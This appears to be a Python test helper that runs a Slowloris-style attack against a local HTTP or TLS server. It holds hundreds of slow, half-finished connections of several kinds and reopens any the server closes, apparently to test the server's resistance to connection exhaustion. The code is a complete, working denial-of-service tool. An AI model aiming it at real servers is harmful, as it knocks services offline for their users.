"""An attacker that holds connections of an HTTP server without a token: `python slowloris.py --help`.

What the server closes is opened again, so that the number of connections stays where it is. Each kind stops
at another place of a request.
"""

from __future__ import annotations

import argparse
import os
import socket
import ssl
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path
from types import TracebackType

REPOSITORY = Path(__file__).parents[2]
sys.path.insert(0, str(REPOSITORY))  # as a program, this file stands alone

from tests.services.processes import Server  # noqa: E402

HEAD = b"GET /health HTTP/1.1\r\nhost: farm\r\n"
ENROL = b"POST /enrol HTTP/1.1\r\nhost: farm\r\ncontent-length: 4000\r\n\r\n"
CLIENT_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"

BEGINNINGS: dict[str, bytes] = {
    "silence": b"",
    "handshake": CLIENT_HELLO,
    "headers": HEAD,
    "body": ENROL,
    "idle": HEAD + b"\r\n",
    "unread": (HEAD + b"\r\n") * 500,
}
"""What each kind sends first. `handshake` belongs on a TLS port, without TLS of its own."""

DRIPS: dict[str, bytes] = {"headers": b"x-a: b\r\n", "body": b"x", "handshake": b"\0"}
"""What each kind sends every second, so that the connection is never quite idle."""

TRUSTING_ALL = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
TRUSTING_ALL.check_hostname, TRUSTING_ALL.verify_mode = False, ssl.CERT_NONE


@dataclass
class Attack:
    """Holds `count` connections of one kind, and opens at most `rate` in a second once they all stood."""

    kind: str
    port: int
    count: int
    rate: int
    tls: bool
    held: list[socket.socket] = field(default_factory=list)
    opened: int = 0

    def run(self, report: Callable[[str], object]) -> None:
        while True:
            began = time.monotonic()
            missing = self.count - len(self.held)
            for _ in range(missing if self.opened < self.count else min(missing, self.rate)):
                self._open()
            report(f"{self.opened} opened, {len(self.held)} held")
            self.held = [line for line in self.held if self._goes_on(line)]
            time.sleep(max(0.0, began + 1.0 - time.monotonic()))

    def _open(self) -> None:
        self.opened += 1
        line = socket.socket()
        line.settimeout(5.0)
        try:
            line.connect(("127.0.0.1", self.port))
            if self.tls:
                line = TRUSTING_ALL.wrap_socket(line)
            line.setblocking(False)
            line.send(BEGINNINGS[self.kind])
        except OSError:
            line.close()
        else:
            self.held.append(line)

    def _goes_on(self, line: socket.socket) -> bool:
        try:
            if self.kind != "unread" and line.recv(1 << 16) == b"":
                line.close()
                return False
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except OSError:
            line.close()
            return False
        with suppress(BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            try:
                line.send(DRIPS.get(self.kind, HEAD + b"\r\n" if self.kind == "unread" else b""))
            except (BrokenPipeError, ConnectionError, ssl.SSLError):
                line.close()
                return False
        return True


class Slowloris:
    """An attack in a process of its own, for the length of a block; it stands when the block begins."""

    def __init__(
        self, port: int, kind: str, log: Path, *, count: int = 1000, rate: int = 200, tls: bool = False
    ) -> None:
        command = [sys.executable, __file__, "--port", str(port), "--kind", kind]
        command += ["--count", str(count), "--rate", str(rate), *(["--tls"] if tls else [])]
        self._count, self._command, self._log = count, command, log

    def __enter__(self) -> Slowloris:
        self._program = Server(self._command, self._log)
        self._program.until(lambda: "opened" in self._program.tail(), "the attack")
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._program.kill()


def main() -> None:
    options = argparse.ArgumentParser(description=__doc__)
    options.add_argument("--port", type=int, required=True)
    options.add_argument("--kind", choices=sorted(BEGINNINGS), required=True)
    options.add_argument("--count", type=int, default=1000)
    options.add_argument("--rate", type=int, default=200)
    options.add_argument("--tls", action="store_true")
    chosen = options.parse_args()
    attack = Attack(chosen.kind, chosen.port, chosen.count, chosen.rate, chosen.tls)
    attack.run(lambda line: os.write(1, f"{line}\n".encode()))


if __name__ == "__main__":
    main()
